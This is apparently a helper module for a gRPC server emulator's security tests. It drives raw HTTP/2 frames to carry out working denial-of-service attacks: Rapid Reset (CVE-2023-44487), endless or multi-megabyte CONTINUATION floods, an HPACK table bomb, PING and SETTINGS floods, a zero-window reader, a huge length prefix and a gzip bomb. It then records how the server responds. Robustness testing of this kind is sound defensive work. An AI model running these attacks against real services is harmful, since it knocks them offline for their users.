"""Hostile HTTP/2 clients for the gRPC port (issue 27): each attack drives raw frames over its own
socket and reports what the server did (GOAWAY code, grpc-status, whether it closed). Used by
test_grpc_attacks.py; not a test module."""

from __future__ import annotations

import gzip
import socket
import struct
import time
from dataclasses import dataclass, field

from hpack import Decoder, Encoder

from rocketmq_emu.broker.grpc import messages
from rocketmq_emu.broker.grpc.http2_frames import (
    ACK,
    CONNECTION_PREFACE,
    END_HEADERS,
    END_STREAM,
    ErrorCode,
    FrameType,
    Setting,
    frame,
    rst_stream,
    settings,
)

SERVICE = "/apache.rocketmq.v2.MessagingService/"


def request_headers(rpc: str, extra: tuple[tuple[str, str], ...] = ()) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + rpc),
            (":authority", "emu"), ("content-type", "application/grpc"), ("te", "trailers"),
            *extra]


def grpc_message(payload: bytes, compressed: bool = False) -> bytes:
    return struct.pack(">BI", int(compressed), len(payload)) + payload


def route_request(topic: str) -> bytes:
    req = messages.QueryRouteRequest()
    req.topic.name = topic
    req.endpoints.addresses.add(host="127.0.0.1", port=8081)
    return req.SerializeToString()


@dataclass
class Outcome:
    """What the server did to one attacking connection."""

    local: str = ""  # the attacker's own host:port (as the server's log names the peer)
    goaway: ErrorCode | None = None
    closed: bool = False
    statuses: dict[int, int] = field(default_factory=dict)  # stream id -> grpc-status
    details: dict[int, str] = field(default_factory=dict)  # stream id -> grpc-message
    resets: dict[int, ErrorCode] = field(default_factory=dict)
    sent: int = 0  # bytes the attacker got out


class RawH2:
    """One client connection speaking raw frames."""

    def __init__(self, addr: str, client_settings: dict[int, int] | None = None) -> None:
        server, server_port = addr.rsplit(":", 1)
        self.sock = socket.create_connection((server, int(server_port)), timeout=10)
        host, port = self.sock.getsockname()[:2]
        self.local = f"{host}:{port}"
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.outcome = Outcome(local=self.local)
        self._buf = b""
        self.send(CONNECTION_PREFACE + settings(client_settings or {}))

    def send(self, data: bytes, timeout: float = 10) -> bool:
        """False once the server stopped taking bytes for ``timeout`` s or closed."""
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
        except (TimeoutError, OSError):
            return False
        self.outcome.sent += len(data)
        return True

    def headers(self, sid: int, fields: list[tuple[str, str]], end_stream: bool = False,
                end_headers: bool = True) -> bytes:
        flags = (END_STREAM if end_stream else 0) | (END_HEADERS if end_headers else 0)
        return frame(FrameType.HEADERS, flags, sid, self.encoder.encode(fields))

    def read_until_closed(self, timeout: float = 20) -> Outcome:
        """Read frames until the server closes (or ``timeout``), noting GOAWAY, RST_STREAM and
        each stream's grpc-status."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(1 << 16)
            except TimeoutError:
                break
            except OSError:
                self.outcome.closed = True
                break
            if not chunk:
                self.outcome.closed = True
                break
            self._buf += chunk
            self._parse()
        return self.outcome

    def read_for(self, seconds: float) -> Outcome:
        """Read what the server sends for ``seconds`` (it need not close)."""
        return self.read_until_closed(seconds)

    def _parse(self) -> None:
        buf = self._buf
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            kind, flags = buf[3], buf[4]
            sid = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
            payload = buf[9:9 + length]
            buf = buf[9 + length:]
            if kind == FrameType.GOAWAY:
                self.outcome.goaway = ErrorCode(int.from_bytes(payload[4:8], "big"))
            elif kind == FrameType.RST_STREAM:
                self.outcome.resets[sid] = ErrorCode(int.from_bytes(payload, "big"))
            elif kind == FrameType.HEADERS and flags & END_HEADERS:
                fields = dict(self.decoder.decode(payload))
                if "grpc-status" in fields:
                    self.outcome.statuses[sid] = int(fields["grpc-status"])
                    self.outcome.details[sid] = fields.get("grpc-message", "")
        self._buf = buf

    def close(self) -> None:
        self.sock.close()


def well_formed_call(addr: str, topic: str) -> Outcome:
    """One QueryRoute over raw frames, answered: what a first raw-frame client loads on the
    server (its first use) is loaded before an attack is measured."""
    conn = RawH2(addr)
    conn.send(conn.headers(1, request_headers("QueryRoute")) +
              frame(FrameType.DATA, END_STREAM, 1, grpc_message(route_request(topic))))
    deadline = time.monotonic() + 10
    while 1 not in conn.outcome.statuses and time.monotonic() < deadline:
        conn.read_for(0.1)
    conn.close()
    return conn.outcome


# --- the attacks ---------------------------------------------------------------------------------
def rapid_reset(addr: str, streams: int = 3000) -> Outcome:
    """CVE-2023-44487: streams opened and reset at once, as fast as the socket takes them."""
    conn = RawH2(addr)
    fields = request_headers("QueryRoute")
    for first in range(1, 2 * streams, 200):
        batch = b"".join(conn.headers(sid, fields) + rst_stream(sid, ErrorCode.CANCEL)
                         for sid in range(first, min(first + 200, 2 * streams), 2))
        if not conn.send(batch):
            break
    return _finish(conn)


def continuation_forever(addr: str) -> Outcome:
    """VU#421644: a header block that never ends (empty CONTINUATION frames, no END_HEADERS)."""
    conn = RawH2(addr)
    conn.send(conn.headers(1, request_headers("QueryRoute"), end_headers=False))
    for _ in range(1000):
        if not conn.send(frame(FrameType.CONTINUATION, 0, 1) * 64):
            break
    return _finish(conn)


def continuation_megabytes(addr: str, megabytes: int = 8) -> Outcome:
    """VU#421644: a header block that would end only after megabytes of CONTINUATION."""
    conn = RawH2(addr)
    conn.send(conn.headers(1, request_headers("QueryRoute"), end_headers=False))
    chunk = frame(FrameType.CONTINUATION, 0, 1, b"\x00" * 16384)
    for _ in range(megabytes * 64):
        if not conn.send(chunk):
            break
    return _finish(conn)


def hpack_bomb(addr: str, streams: int = 1200, references: int = 4000) -> Outcome:
    """A 4,000-byte field put in the dynamic table once, then referenced ``references`` times
    in each block (16 MB decoded per block from 4 KB on the wire), on stream after stream."""
    conn = RawH2(addr)
    # The request's own fields as literals never indexed: the same bytes in every block, and
    # the bomb's entry stays the only dynamic one (index 62, RFC 7541 2.3.3).
    base = conn.encoder.encode([(k, v, True) for k, v in request_headers("QueryRoute")])
    # Literal with incremental indexing, new name (RFC 7541 6.2.1): "x-bomb", 4000 bytes.
    insert = b"\x40\x06x-bomb\x7f" + _int_rest(4000 - 127) + b"v" * 4000
    for sid in range(1, 2 * streams, 2):
        block = base + (insert if sid == 1 else b"") + bytes([0x80 | 62]) * references
        if not conn.send(frame(FrameType.HEADERS, END_HEADERS, sid, block)):
            break
    return _finish(conn)


def ping_flood_unread(addr: str, seconds: float = 30) -> Outcome:
    """PINGs sent without ever reading the ACKs."""
    return _flood_unread(addr, frame(FrameType.PING, 0, 0, b"attack!!"), seconds)


def settings_flood_unread(addr: str, seconds: float = 30) -> Outcome:
    """Empty SETTINGS frames sent without ever reading the ACKs."""
    return _flood_unread(addr, settings({}), seconds)


def zero_window_reader(addr: str, topic: str, streams: int = 1100, hold: float = 3) -> Outcome:
    """SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE: answered streams stay open with
    their DATA held; streams past SETTINGS_MAX_CONCURRENT_STREAMS are refused. The connection is
    held ``hold`` seconds, then closed by the attacker (the server's send timeout is 60 s)."""
    conn = RawH2(addr, {Setting.INITIAL_WINDOW_SIZE: 0})
    body = grpc_message(route_request(topic))
    fields = request_headers("QueryRoute")
    out = b"".join(conn.headers(sid, fields) + frame(FrameType.DATA, END_STREAM, sid, body)
                   for sid in range(1, 2 * streams, 2))
    conn.send(out)
    outcome = conn.read_for(hold)
    conn.close()
    return outcome


def huge_length_prefix(addr: str) -> Outcome:
    """A gRPC message announcing 4 GiB - 1 bytes (the length prefix's largest value)."""
    conn = RawH2(addr)
    conn.send(conn.headers(1, request_headers("SendMessage")) +
              frame(FrameType.DATA, 0, 1, struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 1000))
    outcome = conn.read_for(3)
    conn.close()
    return outcome


def gzip_bomb(addr: str, inflated_mb: int = 256) -> Outcome:
    """``grpc-encoding: gzip``: a message of ~250 KB that inflates to ``inflated_mb`` MB, past
    the 130 MiB limit (the proxy's grpcMaxInboundMessageSize)."""
    conn = RawH2(addr)
    payload = gzip.compress(b"\x00" * (inflated_mb << 20), compresslevel=9)
    message = grpc_message(payload, compressed=True)
    conn.send(conn.headers(1, request_headers("SendMessage", (("grpc-encoding", "gzip"),))))
    for at in range(0, len(message), 16384):
        last = at + 16384 >= len(message)
        conn.send(frame(FrameType.DATA, END_STREAM if last else 0, 1, message[at:at + 16384]))
    outcome = conn.read_for(3)
    conn.close()
    return outcome


def _flood_unread(addr: str, unit: bytes, seconds: float) -> Outcome:
    conn = RawH2(addr)
    batch = unit * 1000
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if not conn.send(batch, timeout=max(0.1, deadline - time.monotonic())):
            break
    try:  # did the server drop us? (a reset socket fails the next send at once)
        conn.sock.settimeout(2)
        conn.sock.sendall(unit)
        time.sleep(0.2)
        conn.sock.sendall(unit)
    except OSError:
        conn.outcome.closed = True
    conn.close()
    return conn.outcome


def _finish(conn: RawH2, timeout: float = 20) -> Outcome:
    outcome = conn.read_until_closed(timeout)
    conn.close()
    return outcome


def _int_rest(value: int) -> bytes:
    """The continuation bytes of an HPACK integer whose prefix is full (RFC 7541 5.1)."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


__all__ = ["ACK", "Outcome", "RawH2", "continuation_forever", "continuation_megabytes",
           "gzip_bomb", "hpack_bomb", "huge_length_prefix", "ping_flood_unread", "rapid_reset",
           "settings_flood_unread", "well_formed_call", "zero_window_reader"]
